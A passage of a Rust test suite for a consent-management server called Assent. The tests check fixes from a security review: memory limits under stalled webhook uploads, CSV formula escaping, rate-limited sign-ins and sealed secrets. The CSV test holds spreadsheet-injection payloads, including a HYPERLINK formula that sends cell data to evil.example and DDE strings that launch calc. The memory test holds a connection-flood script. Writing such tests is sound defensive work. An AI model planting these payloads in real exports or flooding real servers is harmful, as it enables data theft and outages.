//! What a hostile tester found (the security and integrity round), each kept fixed by a test.

use crate::helpers::browser::{Browser, staff_user};
use crate::helpers::*;
use diesel::connection::SimpleConnection;
use serde_json::json;
use tokio::io::AsyncWriteExt;

/// A process's resident and peak resident memory in KiB, from /proc.
fn memory_kib(pid: u32) -> (u64, u64) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let field = |name: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
            .unwrap()
    };
    (field("VmRSS:"), field("VmHWM:"))
}

/// Strangers who know an integration's name open many connections, each declaring a 10 MiB body
/// signed with a made-up signature, send all of it but the last byte and stall. Before, each body was
/// held whole until its signature could be checked (a 4.6 GiB peak from 300 such connections); now
/// all unverified bodies together hold at most `ASSENT_UNVERIFIED_BODIES_MB`, the rest are refused
/// with 503 at once, the health check still answers, and a real sender gets through afterwards.
#[tokio::test]
async fn stalled_unsigned_bodies_cannot_fill_the_servers_memory() {
    let db = TestDb::migrated();
    let secret = "an-hmac-secret-of-at-least-32-characters";
    db.cli_ok(
        &[
            "integration",
            "add",
            "--name",
            "shop",
            "--hmac-secret",
            secret,
        ],
        &[],
    );
    let port = Binary::free_port();
    let server = Binary::start(
        &db,
        port,
        &[("ASSENT_UNVERIFIED_BODIES_MB", "32".into())],
        false,
    );
    server.ready().await;
    let pid = server.child.id();
    let (before, _) = memory_kib(pid);

    const CONNECTIONS: usize = 120;
    const BODY: usize = 10 * 1024 * 1024 - 1;
    let head = format!(
        "POST /integrations/shop/webhook HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n\
         Content-Length: {BODY}\r\nX-Hub-Signature-256: sha256={}\r\n\r\n",
        "0".repeat(64)
    );
    let chunk = vec![b' '; 256 * 1024];
    let mut attackers = Vec::new();
    for _ in 0..CONNECTIONS {
        let head = head.clone();
        let chunk = chunk.clone();
        attackers.push(tokio::spawn(async move {
            let mut s = tokio::net::TcpStream::connect(("127.0.0.1", port))
                .await
                .unwrap();
            s.write_all(head.as_bytes()).await.unwrap();
            let mut sent = 0;
            while sent + chunk.len() < BODY {
                // A refused request's connection is closed by the server: writing then fails.
                if s.write_all(&chunk).await.is_err() {
                    return None;
                }
                sent += chunk.len();
            }
            if s.write_all(&chunk[..BODY - sent - 1]).await.is_err() {
                return None;
            }
            // Everything but the last byte is sent; the connection stalls, held open.
            Some(s)
        }));
    }
    let mut stalled = Vec::new();
    for a in attackers {
        stalled.push(a.await.unwrap());
    }
    // (Whether a connection's bytes were taken by the server or still sit in the kernel's buffers, the
    // sender cannot tell: the server's memory is what counts.)
    let open = stalled.iter().filter(|s| s.is_some()).count();

    // The server still answers while the stalled connections are open.
    let http = reqwest::Client::new();
    let live = http
        .get(format!("{}/livez", server.base))
        .send()
        .await
        .unwrap();
    assert_eq!(live.status(), 200);
    let (during, peak) = memory_kib(pid);
    eprintln!(
        "unverified bodies: {open} of {CONNECTIONS} connections still open; resident memory {} MiB before, {} MiB during, peak {} MiB",
        before / 1024,
        during / 1024,
        peak / 1024
    );
    assert!(
        peak < 300 * 1024,
        "peak resident memory {} MiB, over the 300 MiB bound",
        peak / 1024
    );

    // The stalled senders give up; the budget is free again for a real sender.
    drop(stalled);
    let body = json!({"email": "real@example.com", "agreements": {"email": true}, "consentedAt": "2026-05-01T10:00:00Z"});
    let sig = crate::integrations::hub_signature(secret, &body);
    eventually_async("a signed request is accepted again", || async {
        let r = http
            .post(format!("{}/integrations/shop/webhook", server.base))
            .header("Content-Type", "application/json")
            .header("X-Hub-Signature-256", &sig)
            .body(body.to_string())
            .send()
            .await
            .unwrap();
        r.status() == 202
    })
    .await;
    let (after, _) = memory_kib(pid);
    eprintln!("resident memory after: {} MiB", after / 1024);
    assert!(
        after < 300 * 1024,
        "{} MiB resident afterwards",
        after / 1024
    );
}

/// The firstName column of a CSV, read by the `csv` crate (not Assent's writer), keyed by email.
fn first_names(text: &str) -> std::collections::BTreeMap<String, String> {
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let header = r.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (email, first) = (col("email"), col("firstName"));
    r.records()
        .map(|rec| {
            let rec = rec.unwrap();
            (rec[email].to_string(), rec[first].to_string())
        })
        .collect()
}

/// Names typed into the public form or sent through the batch API that a spreadsheet would run as
/// formulas come out of every CSV as text: a leading `'` (OWASP), in the API download, the dashboard
/// download and `assent export`; `ASSENT_CSV_RAW=true` writes them as stored, for machine consumers.
#[tokio::test]
async fn spreadsheet_formulas_come_out_of_every_csv_as_text() {
    let app = TestApp::spawn().await;
    let key = app.api_key().await;
    let hyperlink = r#"=HYPERLINK("http://evil.example/?"&A2,"Open")"#;
    let form = [
        ("email", "form@example.com"),
        ("name", hyperlink),
        ("agreement", "newsletter_agreement"),
    ];
    assert_eq!(app.post("/subscribe", &form).await.0, 200);
    let names = [
        ("cmd@example.com", "+cmd|' /C calc'!A0"),
        ("minus@example.com", "-2+3"),
        ("at@example.com", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("plain@example.com", "Ann"),
    ];
    let items: Vec<_> = names
        .iter()
        .map(|(email, name)| json!({"email": email, "firstName": name, "agreements": {"email": true}}))
        .collect();
    batch(&app, &key, json!(items)).await;

    let mut expected: Vec<(&str, String)> = names
        .iter()
        .map(|(e, n)| {
            (
                *e,
                if *n == "Ann" {
                    n.to_string()
                } else {
                    format!("'{n}")
                },
            )
        })
        .collect();
    expected.push(("form@example.com", format!("'{hyperlink}")));
    let check = |what: &str, text: &str, expected: &[(&str, String)]| {
        let got = first_names(text);
        for (email, name) in expected {
            assert_eq!(got.get(*email), Some(name), "{what}, {email}: {text}");
        }
    };

    let api = app
        .http
        .get(app.url("/api/v1/exports/profiles.csv"))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    check("API download", &api, &expected);

    staff_user(&app, "abe@shop.example", "admin");
    let admin = Browser::new(&app);
    admin
        .sign_in("abe@shop.example", "correct horse battery staple")
        .await;
    let (status, dashboard, _) = admin.get("/admin/exports/profiles.csv").await;
    assert_eq!(status, 200);
    check("dashboard download", &dashboard, &expected);

    let out = app.cli(&["export"]);
    assert!(out.status.success());
    check(
        "assent export",
        &String::from_utf8_lossy(&out.stdout),
        &expected,
    );

    let out = app.cli_env(&["export"], &[("ASSENT_CSV_RAW", "true")]);
    assert!(out.status.success());
    let raw: Vec<(&str, String)> = names
        .iter()
        .map(|(e, n)| (*e, n.to_string()))
        .chain([("form@example.com", hyperlink.to_string())])
        .collect();
    check(
        "assent export with ASSENT_CSV_RAW",
        &String::from_utf8_lossy(&out.stdout),
        &raw,
    );
}

/// `assent webhook add … | head -1`: the reader goes away after the first line. The endpoint is made
/// and the command ends quietly, as a Unix tool does, instead of panicking on the broken pipe.
#[tokio::test]
async fn a_command_whose_output_is_closed_ends_quietly() {
    use std::os::unix::process::ExitStatusExt;
    let app = TestApp::spawn().await;
    // The reading end is closed before the command starts, so its first line already meets a broken pipe.
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let out = app
        .db
        .command(
            &[
                "webhook",
                "add",
                "--url",
                "http://127.0.0.1:9/hook",
                "--events",
                "consent.changed",
            ],
            &[ALLOW],
        )
        .stdout(writer)
        .stderr(std::process::Stdio::piped())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(
        out.status.signal(),
        Some(libc::SIGPIPE),
        "{:?} {stderr}",
        out.status
    );
    assert_eq!(
        app.count("webhook_endpoints"),
        1,
        "the endpoint was made before the output"
    );
}

/// A CSV that names its columns but holds no row is refused with a reason (it exited 0 before), and a
/// header of many thousands of columns is refused at once instead of taking half a minute.
#[tokio::test]
async fn a_csv_without_rows_or_with_a_monstrous_header_is_refused_clearly() {
    let app = TestApp::spawn().await;
    let only_header = app.db.dir().join("only-header.csv");
    std::fs::write(&only_header, "email,firstName,newsletter_agreement\n").unwrap();
    let out = app.cli(&["import", only_header.to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("header line but no rows"), "{stderr}");

    let wide = app.db.dir().join("wide.csv");
    let header: Vec<String> = (0..138_889).map(|i| format!("c{i}")).collect();
    std::fs::write(
        &wide,
        format!(
            "{}\n{}\n",
            header.join(","),
            vec!["x"; header.len()].join(",")
        ),
    )
    .unwrap();
    let out = app.cli(&["import", wide.to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("at most 1000 are accepted"), "{stderr}");
    assert_eq!(app.count("profiles"), 0);
}

async fn batch(app: &TestApp, key: &str, body: serde_json::Value) -> serde_json::Value {
    let r = app
        .http
        .post(app.url("/v4/clients/batch"))
        .bearer_auth(key)
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 202);
    r.json().await.unwrap()
}

/// A "no" another system reports without a time is recorded (at the request's time), even for an
/// agreement never given, so a "yes" reported for yesterday cannot revive it; in one request, `[no,
/// yes]` without times ends "no" (on equal times a no wins). Recording a refusal of what was never
/// given is proof, not news: no `consent.changed` webhook is queued for it.
#[tokio::test]
async fn a_reported_no_without_a_time_protects_itself() {
    let app = TestApp::allowing_private_targets().await;
    let key = app.api_key().await;
    crate::webhooks::add_webhook(&app, "http://127.0.0.1:9/hook", "consent.changed", &[]);
    let yesterday = (chrono::Utc::now() - chrono::Duration::days(1))
        .format("%Y-%m-%dT%H:%M:%SZ")
        .to_string();

    batch(
        &app,
        &key,
        json!([{"email": "x@example.com", "agreements": {"email": false}}]),
    )
    .await;
    let answer = batch(
        &app,
        &key,
        json!([{"email": "x@example.com", "agreements": {"email": true}, "consentedAt": yesterday}]),
    )
    .await;
    assert_eq!(
        answer["stale"][0]["agreement"], "newsletter_agreement",
        "{answer}"
    );
    assert_eq!(
        crate::batch::value_of(&app, "x@example.com", "newsletter_agreement").as_deref(),
        Some("disabled")
    );
    assert_eq!(
        app.count("consent_events WHERE value = 'disabled' AND previous = 'disabled' AND source LIKE 'api:%'"),
        1,
        "the refusal is in the ledger"
    );

    let answer = batch(
        &app,
        &key,
        json!([
            {"email": "y@example.com", "agreements": {"email": false}},
            {"email": "y@example.com", "agreements": {"email": true}},
        ]),
    )
    .await;
    assert_eq!(
        answer["stale"][0]["agreement"], "newsletter_agreement",
        "{answer}"
    );
    assert_eq!(
        crate::batch::value_of(&app, "y@example.com", "newsletter_agreement").as_deref(),
        Some("disabled")
    );
    assert_eq!(
        app.count("outbox WHERE channel = 'webhook' AND payload LIKE '%consent.changed%'"),
        0,
        "a refusal of what was never given is not sent as a change"
    );
    // A real change still is.
    batch(
        &app,
        &key,
        json!([{"email": "x@example.com", "agreements": {"email": true}}]),
    )
    .await;
    assert_eq!(
        crate::batch::value_of(&app, "x@example.com", "newsletter_agreement").as_deref(),
        Some("enabled")
    );
    assert_eq!(
        app.count("outbox WHERE channel = 'webhook' AND payload LIKE '%consent.changed%'"),
        1
    );
}

/// An erasure blanks the person's data in webhook deliveries still queued for a failing endpoint (they
/// kept the email, customId, name and attributes, and a row that died later kept them for ever); the
/// deliveries the erasure itself queues still tell the receiver whom to erase.
#[tokio::test]
async fn an_erasure_blanks_the_person_in_queued_webhook_deliveries() {
    let app = TestApp::allowing_private_targets().await;
    let key = app.api_key().await;
    // Nothing listens on port 9: every delivery fails and stays queued for its retry.
    crate::webhooks::add_webhook(
        &app,
        "http://127.0.0.1:9/hook",
        "consent.changed,profile.created,profile.updated,profile.erased",
        &[],
    );
    batch(
        &app,
        &key,
        json!([{"email": "gone@example.com", "customId": "crm-gone", "firstName": "Secretname",
                "lastName": "Hidden", "phone": "+48123456789", "attributes": {"city": "Lodzcity"},
                "agreements": {"email": true}}]),
    )
    .await;
    // The phone is an identifier: the erasure's own notice names it (below), nothing else may.
    let personal = "outbox WHERE channel = 'webhook' AND (payload LIKE '%Secretname%' OR payload LIKE '%Hidden%' \
                    OR payload LIKE '%Lodzcity%' OR (payload LIKE '%48123456789%' AND kind <> 'profile.erased'))";
    assert_eq!(app.count(personal), 1, "profile.created carries the person");
    let before = app.count("outbox WHERE channel = 'webhook'");

    let out = app.cli(&["profile", "erase", "gone@example.com"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        app.count(personal),
        0,
        "no queued delivery keeps the person's data"
    );
    assert_eq!(
        app.count(&format!(
            "outbox WHERE channel = 'webhook' AND id <= (SELECT MAX(id) FROM outbox WHERE channel = 'webhook') - {} \
             AND (payload LIKE '%gone@example.com%' OR payload LIKE '%crm-gone%')",
            app.count("outbox WHERE channel = 'webhook'") - before
        )),
        0,
        "the rows queued before the erasure lost the identifiers too"
    );
    assert_eq!(
        app.count("outbox WHERE kind = 'profile.erased' AND payload LIKE '%gone@example.com%' AND payload LIKE '%crm-gone%' \
                   AND payload LIKE '%+48123456789%'"),
        1,
        "the receiver still learns whom to erase"
    );
    assert_eq!(
        app.count("outbox WHERE kind = 'consent.changed' AND payload LIKE '%\"value\":\"disabled\"%' AND payload LIKE '%gone@example.com%'"),
        1,
        "and of the withdrawal"
    );
}

/// `HTTP_PROXY` in the server's environment is ignored (through a proxy, the private-address guard
/// would only see the proxy's name): deliveries go to the target itself, and the would-be proxy sees
/// no connection. A proxy is used only when `ASSENT_OUTGOING_PROXY` names one.
#[tokio::test]
async fn environment_proxies_are_ignored_by_outgoing_requests() {
    use crate::helpers::receiver::Receiver;
    let proxy = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy_url = format!("http://{}", proxy.local_addr().unwrap());
    let knocked = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let k = knocked.clone();
    tokio::spawn(async move {
        while let Ok((_s, _)) = proxy.accept().await {
            k.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        }
    });
    let db = TestDb::migrated();
    let rx = Receiver::start().await;
    let secret = crate::webhooks::webhook_on(&db, &rx.url);
    rx.trust(&[&secret]);
    let env = [
        (ALLOW.0, ALLOW.1.to_string()),
        ("HTTP_PROXY", proxy_url.clone()),
        ("http_proxy", proxy_url.clone()),
        ("ALL_PROXY", proxy_url),
    ];
    let server = Binary::start(&db, Binary::free_port(), &env, false);
    server.ready().await;
    let r = reqwest::Client::new()
        .post(format!("{}/v4/clients/batch", server.base))
        .bearer_auth(db.api_key())
        .json(&json!([{"email": "direct@example.com", "agreements": {"email": true}}]))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 202);
    assert_eq!(
        rx.wait_for(1).await.len(),
        1,
        "delivered to the target itself"
    );
    assert_eq!(
        knocked.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "the proxy saw nothing"
    );
}

/// A sender that retries one Standard Webhooks message many times at once (a lost answer, an eager
/// queue): every copy gets the same 2xx answer and the change is applied once, on both engines.
#[tokio::test]
async fn simultaneous_retries_of_one_message_apply_it_once_and_answer_alike() {
    let app = TestApp::spawn().await;
    let out = app.cli(&[
        "integration",
        "add",
        "--name",
        "peer",
        "--standard-webhooks",
    ]);
    assert!(out.status.success());
    let whsec = String::from_utf8_lossy(&out.stdout)
        .lines()
        .last()
        .unwrap()
        .trim()
        .to_string();
    let body = json!({"email": "once@example.com", "agreements": {"email": true}}).to_string();
    let now = chrono::Utc::now().timestamp();
    let mut sends = tokio::task::JoinSet::new();
    for i in 0..100 {
        let ts = now - i % 5;
        let sig =
            assent::domain::signing::signature(&whsec, "msg_once", ts, body.as_bytes()).unwrap();
        let req = app
            .http
            .post(app.url("/integrations/peer/webhook"))
            .header("Content-Type", "application/json")
            .header("webhook-id", "msg_once")
            .header("webhook-timestamp", ts.to_string())
            .header("webhook-signature", sig)
            .body(body.clone());
        sends.spawn(async move {
            let r = req.send().await.unwrap();
            (r.status().as_u16(), r.text().await.unwrap())
        });
    }
    let answers = sends.join_all().await;
    assert!(answers.iter().all(|(s, _)| *s == 202), "{answers:?}");
    assert!(
        answers.iter().all(|(_, a)| *a == answers[0].1),
        "one answer for all: {answers:?}"
    );
    assert_eq!(app.count("consent_events"), 1, "applied once");
    assert_eq!(
        app.count("audit_log WHERE action = 'integration.replay'"),
        99
    );
}

fn random_key() -> String {
    use base64::Engine;
    let mut k = [0u8; 32];
    rand::fill(&mut k);
    base64::engine::general_purpose::STANDARD.encode(k)
}

/// Sends a change through a server and checks that the receiver got it signed with the secret it
/// trusts, and that each integration accepts a request signed with its own secret.
async fn everything_signs_and_verifies(
    server: &Binary,
    db: &TestDb,
    rx: &crate::helpers::receiver::Receiver,
    n: usize,
    secrets: &[(&str, &str)],
) {
    let http = reqwest::Client::new();
    let r = http
        .post(format!("{}/v4/clients/batch", server.base))
        .bearer_auth(db.api_key())
        .json(&json!([{"email": format!("p{n}@example.com"), "agreements": {"email": true}}]))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 202);
    rx.wait_for(n).await;
    assert_eq!(
        rx.bad_signatures(),
        0,
        "deliveries are signed with the endpoint's secret"
    );
    for (name, secret) in secrets {
        let body = json!({"email": format!("{name}{n}@example.com"), "agreements": {"email": true}, "consentedAt": "2026-05-01T10:00:00Z"});
        let r = http
            .post(format!("{}/integrations/{name}/webhook", server.base))
            .header("Content-Type", "application/json")
            .header(
                "X-Hub-Signature-256",
                crate::integrations::hub_signature(secret, &body),
            )
            .body(body.to_string())
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 202, "{name}: {}", r.text().await.unwrap());
    }
}

/// Webhook secrets and integration secrets are kept sealed (AES-256-GCM under a key derived from
/// ASSENT_SECRET_KEY): none appears in clear in the database's bytes (the SQLite file and its WAL, or a
/// pg_dump); one stored in clear by an older version is sealed when the server starts; after the key
/// changes, `assent secrets reseal` with ASSENT_PREVIOUS_SECRET_KEY keeps everything signing and
/// verifying under the new key.
#[tokio::test]
async fn secrets_are_sealed_at_rest_and_keep_working_after_a_reseal() {
    use crate::helpers::receiver::Receiver;
    let db = TestDb::migrated();
    let (old, new) = (random_key(), random_key());
    let with_old = [("ASSENT_SECRET_KEY", old.as_str()), ALLOW];
    let rx = Receiver::start().await;
    let out = db.cli_ok(
        &[
            "webhook",
            "add",
            "--url",
            &rx.url,
            "--events",
            "consent.changed",
        ],
        &with_old,
    );
    let whsec = out.lines().last().unwrap().trim().to_string();
    rx.trust(&[&whsec]);
    let hmac = "an-hmac-secret-of-at-least-32-characters-x";
    db.cli_ok(
        &[
            "integration",
            "add",
            "--name",
            "shop",
            "--hmac-secret",
            hmac,
        ],
        &with_old,
    );
    let out = db.cli_ok(
        &[
            "integration",
            "add",
            "--name",
            "peer",
            "--standard-webhooks",
        ],
        &with_old,
    );
    let peer = out.lines().last().unwrap().trim().to_string();
    // As an older version stored it: in clear.
    let legacy = "a-legacy-hmac-secret-kept-in-clear-before";
    conn_to(&db)
        .batch_execute(&format!(
            "INSERT INTO integrations (name, auth, key, created_at) VALUES ('legacy', 'hmac_sha256', '{legacy}', '2026-01-01 00:00:00')"
        ))
        .unwrap();

    let env = |key: &str| {
        vec![
            ("ASSENT_SECRET_KEY", key.to_string()),
            (ALLOW.0, ALLOW.1.to_string()),
        ]
    };
    let server = Binary::start(&db, Binary::free_port(), &env(&old), false);
    server.ready().await;
    let bytes = String::from_utf8_lossy(&db.raw_bytes()).into_owned();
    for secret in [&whsec, hmac, &peer, legacy] {
        let body = secret.trim_start_matches("whsec_");
        assert!(!bytes.contains(body), "{secret} is stored in clear");
    }
    assert!(bytes.contains("sealed:v1:"));
    everything_signs_and_verifies(&server, &db, &rx, 1, &[("shop", hmac), ("legacy", legacy)])
        .await;
    drop(server);

    // Started with a new key before resealing, the server refuses at once and says what to do.
    let out = db
        .command(
            &["serve"],
            &[
                ("ASSENT_SECRET_KEY", new.as_str()),
                ("ASSENT_BIND", "127.0.0.1:0"),
            ],
        )
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("assent secrets reseal"), "{stderr}");

    // The key changes: reseal with the old one given as the previous key.
    let out = db.cli_ok(
        &["secrets", "reseal"],
        &[
            ("ASSENT_SECRET_KEY", new.as_str()),
            ("ASSENT_PREVIOUS_SECRET_KEY", old.as_str()),
        ],
    );
    assert!(out.contains("resealed 4 secret(s)"), "{out}");
    let server = Binary::start(&db, Binary::free_port(), &env(&new), false);
    server.ready().await;
    everything_signs_and_verifies(&server, &db, &rx, 2, &[("shop", hmac), ("legacy", legacy)])
        .await;
    let bytes = String::from_utf8_lossy(&db.raw_bytes()).into_owned();
    assert!(!bytes.contains(hmac) && !bytes.contains(legacy));
}

/// One sign-in attempt from `ip` (behind the trusted proxy), with the form's CSRF token.
async fn sign_in_from(
    app: &TestApp,
    b: &Browser,
    token: &str,
    email: &str,
    password: &str,
    ip: &str,
) -> u16 {
    b.http
        .post(app.url("/admin/login"))
        .header("X-Forwarded-For", ip)
        .form(&[
            ("email", email),
            ("password", password),
            ("csrf_token", token),
        ])
        .send()
        .await
        .unwrap()
        .status()
        .as_u16()
}

/// Five wrong passwords from one address no longer lock the real admin out: they slow that address
/// for that account; the admin signs in from elsewhere. One address guessing at many accounts is held
/// at 20 a minute, and one account guessed at from many addresses at 100 an hour.
#[tokio::test]
async fn a_stranger_cannot_lock_an_admin_out_but_guessing_stays_slow() {
    let app = TestApp::spawn_with(Options {
        trust_proxy: true,
        ..Options::default()
    })
    .await;
    staff_user(&app, "abe@shop.example", "admin");
    let b = Browser::new(&app);
    let (_, page, _) = b.get("/admin/login").await;
    let token = crate::helpers::browser::csrf(&page);
    let pw = "correct horse battery staple";
    let stranger = "203.0.113.7";
    for _ in 0..5 {
        assert_eq!(
            sign_in_from(&app, &b, &token, "abe@shop.example", "guess", stranger).await,
            401
        );
    }
    assert_eq!(
        sign_in_from(&app, &b, &token, "abe@shop.example", pw, stranger).await,
        429
    );
    assert_eq!(
        sign_in_from(&app, &b, &token, "abe@shop.example", pw, "198.51.100.2").await,
        303,
        "the admin, from their own address, is not locked out"
    );

    // One address spraying many accounts: 20 a minute.
    let sprayer = "203.0.113.8";
    for i in 0..20 {
        let who = format!("user{i}@shop.example");
        assert_eq!(
            sign_in_from(&app, &b, &token, &who, "guess", sprayer).await,
            401
        );
    }
    assert_eq!(
        sign_in_from(&app, &b, &token, "other@shop.example", "guess", sprayer).await,
        429
    );

    // One account from many addresses: 100 an hour, then even a new address waits.
    for i in 0..20 {
        for _ in 0..5 {
            let ip = format!("192.0.2.{i}");
            assert_eq!(
                sign_in_from(&app, &b, &token, "mia@shop.example", "guess", &ip).await,
                401
            );
        }
    }
    assert_eq!(
        sign_in_from(&app, &b, &token, "mia@shop.example", "guess", "192.0.2.200").await,
        429
    );
}

/// Confirming the address is news for the systems that keep the profile: a `profile.updated` with
/// `emailConfirmed: true` (source `confirmation`), once; the profile events carry the field throughout.
#[tokio::test]
async fn confirming_the_address_sends_profile_updated_with_email_confirmed() {
    use crate::helpers::receiver::Receiver;
    let app = TestApp::allowing_private_targets().await;
    let rx = Receiver::start().await;
    let (_, secret) =
        crate::webhooks::add_webhook(&app, &rx.url, "profile.created,profile.updated", &[]);
    rx.trust(&[&secret]);
    let email = app.subscribe_pending("conf@example.com").await;
    let confirm = email.link(&app.url("/confirm/")).unwrap();
    assert_eq!(app.http.post(&confirm).send().await.unwrap().status(), 200);
    assert_eq!(
        app.http.post(&confirm).send().await.unwrap().status(),
        200,
        "confirmed again: no news"
    );
    let got = rx.wait_for(2).await;
    let kinds: Vec<(&str, bool)> = got
        .iter()
        .map(|g| {
            (
                g.body["type"].as_str().unwrap(),
                g.body["data"]["emailConfirmed"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        kinds,
        [("profile.created", false), ("profile.updated", true)]
    );
    assert_eq!(got[1].body["data"]["source"], "confirmation");
    assert_eq!(got[1].body["data"]["email"], "conf@example.com");
    assert_eq!(app.count("outbox WHERE kind = 'profile.updated'"), 1);
}

fn count_in(db: &TestDb, query: &str) -> i64 {
    #[derive(diesel::QueryableByName)]
    struct N {
        #[diesel(sql_type = diesel::sql_types::BigInt)]
        n: i64,
    }
    let rows: Vec<N> = diesel::RunQueryDsl::load(
        diesel::sql_query(format!("SELECT COUNT(*) AS n FROM {query}")),
        &mut conn_to(db),
    )
    .unwrap();
    rows[0].n
}

fn new_whsec() -> String {
    format!("whsec_{}", random_key())
}

/// Registers another Assent as the integration `name`, with a new shared secret; returns the secret.
pub fn add_peer(db: &TestDb, name: &str) -> String {
    let whsec = new_whsec();
    db.cli_ok(
        &[
            "integration",
            "add",
            "--name",
            name,
            "--standard-webhooks",
            "--secret",
            &whsec,
        ],
        &[],
    );
    whsec
}

/// Two real Assent servers feed each other through their own webhooks and integrations with shared
/// secrets (`webhook add --secret`, `integration add --standard-webhooks --secret`): a change on A
/// arrives on B with the source `integration:a`, a withdrawal on A withdraws on B, an erasure on A
/// erases on B, and B never echoes anything back to A (its endpoint is linked to the integration the
/// changes came through).
#[tokio::test]
async fn one_assent_feeds_another_and_nothing_echoes_back() {
    let (db_a, db_b) = (TestDb::migrated(), TestDb::migrated());
    let (port_a, port_b) = (Binary::free_port(), Binary::free_port());
    let (a_to_b, b_to_a) = (add_peer(&db_b, "a"), add_peer(&db_a, "b"));
    let events = "consent.changed,profile.created,profile.updated,profile.erased";
    let to_b = format!("http://127.0.0.1:{port_b}/integrations/a/webhook");
    let to_a = format!("http://127.0.0.1:{port_a}/integrations/b/webhook");
    db_a.cli_ok(
        &[
            "webhook",
            "add",
            "--url",
            &to_b,
            "--events",
            events,
            "--integration",
            "b",
            "--secret",
            &a_to_b,
        ],
        &[ALLOW],
    );
    db_b.cli_ok(
        &[
            "webhook",
            "add",
            "--url",
            &to_a,
            "--events",
            events,
            "--integration",
            "a",
            "--secret",
            &b_to_a,
        ],
        &[ALLOW],
    );
    for bad in ["not-a-secret", "whsec_c2hvcnQ="] {
        let out = db_a
            .command(
                &[
                    "webhook", "add", "--url", &to_b, "--events", events, "--secret", bad,
                ],
                &[ALLOW],
            )
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1));
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("--secret:"),
            "{out:?}"
        );
    }
    let env = [
        (ALLOW.0, ALLOW.1.to_string()),
        ("ASSENT_WEBHOOK_FIRST_RETRY_MS", "50".to_string()),
    ];
    let a = Binary::start(&db_a, port_a, &env, false);
    let b = Binary::start(&db_b, port_b, &env, false);
    a.ready().await;
    b.ready().await;
    let (key_a, key_b) = (db_a.api_key(), db_b.api_key());
    let http = reqwest::Client::new();
    let on_a = |body: serde_json::Value| {
        http.post(format!("{}/v4/clients/batch", a.base))
            .bearer_auth(&key_a)
            .json(&body)
            .send()
    };
    let consents_on_b = || async {
        let r = http
            .get(format!("{}/api/v1/profiles/x@example.com/consents", b.base))
            .bearer_auth(&key_b)
            .send()
            .await
            .unwrap();
        if r.status() != 200 {
            return serde_json::Value::Null;
        }
        r.json::<serde_json::Value>().await.unwrap()
    };

    let r = on_a(
        json!([{"email": "x@example.com", "firstName": "Xena", "agreements": {"email": true}}]),
    )
    .await
    .unwrap();
    assert_eq!(r.status(), 202);
    eventually_async("the yes arrives on B", || async {
        consents_on_b()
            .await
            .as_array()
            .is_some_and(|e| e.iter().any(|e| e["value"] == "enabled"))
    })
    .await;
    let events_b = consents_on_b().await;
    assert_eq!(events_b[0]["source"], "integration:a", "{events_b}");
    let profile = http
        .get(format!("{}/api/v1/profiles/x@example.com", b.base))
        .bearer_auth(&key_b)
        .send()
        .await
        .unwrap()
        .json::<serde_json::Value>()
        .await
        .unwrap();
    assert_eq!(profile["firstName"], "Xena", "{profile}");

    let r = on_a(json!([{"email": "x@example.com", "agreements": {"email": false}}]))
        .await
        .unwrap();
    assert_eq!(r.status(), 202);
    eventually_async("the withdrawal arrives on B", || async {
        consents_on_b()
            .await
            .as_array()
            .is_some_and(|e| e.iter().any(|e| e["value"] == "disabled"))
    })
    .await;

    let out = db_a.cli_ok(&["profile", "erase", "x@example.com"], &[]);
    assert!(!out.is_empty());
    eventually_async("the erasure arrives on B", || async {
        consents_on_b().await.is_null()
    })
    .await;

    // Everything B recorded came from A; B queued nothing for A, and A holds only its own changes.
    assert_eq!(
        count_in(&db_b, "consent_events WHERE source <> 'integration:a'"),
        0
    );
    assert_eq!(
        count_in(&db_b, "outbox WHERE channel = 'webhook'"),
        0,
        "B echoes nothing back"
    );
    assert_eq!(
        count_in(&db_a, "consent_events WHERE source = 'integration:b'"),
        0
    );
    assert_eq!(
        count_in(&db_b, "audit_log WHERE action = 'profile.erase'"),
        count_in(
            &db_b,
            "audit_log WHERE action = 'profile.erase' AND actor = 'integration:a'"
        ),
        "erased through the write path, audited as A's and nobody else's"
    );
    assert_eq!(
        count_in(&db_b, "audit_log WHERE action = 'profile.erase'"),
        1
    );
}

/// A paused endpoint's queue does not grow without end: beyond `ASSENT_WEBHOOK_BACKLOG_MAX` deliveries
/// waiting, the oldest are set aside as dead letters that say why (listed with Redeliver), and the
/// newest stay queued for when it resumes.
#[tokio::test]
async fn a_paused_endpoints_backlog_is_capped_visibly() {
    let app = TestApp::spawn_with(Options {
        env: vec![
            (ALLOW.0, ALLOW.1.into()),
            ("ASSENT_WEBHOOK_BACKLOG_MAX", "3".into()),
        ],
        ..Options::default()
    })
    .await;
    let key = app.api_key().await;
    let (id, _) =
        crate::webhooks::add_webhook(&app, "http://127.0.0.1:9/hook", "consent.changed", &[]);
